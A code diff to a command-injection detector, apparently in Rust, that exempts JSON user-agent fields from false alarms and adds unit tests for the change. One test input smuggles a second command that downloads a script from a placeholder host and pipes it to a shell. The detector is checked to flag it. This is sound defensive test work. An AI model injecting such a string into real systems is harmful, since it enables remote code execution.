@@ -80,7 +80,7 @@ impl Detector for CommandInjection {
             bytes: read,
             ..*value
         };
-        if is_agent(value) && names_clients(value.bytes) {
+        if (is_agent(value) || tells_agent(value)) && names_clients(value.bytes) {
             return;
         }
         if takes_commands(value) || is_query(value.bytes) {
@@ -105,6 +105,13 @@ impl Detector for CommandInjection {
             PATTERNS.judge(value, &plain, report);
         }
     }
+}
+
+/// Tells a field of JSON that says from which client something came, as logs and measurements do.
+fn tells_agent(value: &Value<'_>) -> bool {
+    const NAMES: [&[u8]; 4] = [b"ua", b"user-agent", b"user_agent", b"useragent"];
+    let last = value.name.rsplit(|b| *b == b'.').next().unwrap_or_default();
+    value.part == Part::Json && NAMES.iter().any(|name| last.eq_ignore_ascii_case(name))
 }
 
 /// Tells a user agent of the usual kind: who writes one writes semicolons and programs' names too, but
@@ -463,6 +470,16 @@ mod tests {
         ] {
             assert!(agent(text) < 0.5, "{text}");
         }
+    }
+
+    #[test]
+    fn documents_tell_of_clients() {
+        let json = |name, text| score_at(&CommandInjection, Part::Json, name, text);
+        let text = "Opera/9.80 (J2ME; Opera Mini/5.0 (Windows; U; more 9)); php 8.1";
+        assert!(json(b"context.userAgent", text) < 0.5);
+        assert!(json(b"context.userAgent", "x; node curl/8.5.0") < 0.5);
+        assert!(json(b"context.host", "x; node curl/8.5.0") >= 0.5);
+        assert!(json(b"context.userAgent", "x; php 8.1;curl a.example/x|sh") >= 0.5);
     }
 
     #[test]
